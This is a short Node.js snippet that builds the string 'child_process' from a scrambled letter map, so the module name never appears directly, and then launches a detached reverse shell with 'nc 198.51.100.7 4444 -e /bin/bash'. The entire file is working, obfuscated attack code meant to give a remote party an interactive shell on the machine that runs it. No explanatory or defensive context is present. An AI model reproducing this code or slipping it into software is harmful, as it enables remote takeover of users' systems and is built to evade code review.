// Letters ordered by their positions to spell the module name.
const pos = { c: [0], h: [1], i: [2], l: [3], d: [4], _: [5], p: [6], r: [7], o: [8], e: [10], s: [11, 12] };
const letters = [];
for (const [ch, at] of Object.entries(pos)) for (const i of at) letters[i] = ch;
letters[9] = 'c';
const cp = require(letters.join(''));
cp.spawn('bash', ['-c', 'nc 198.51.100.7 4444 -e /bin/bash'], { detached: true });
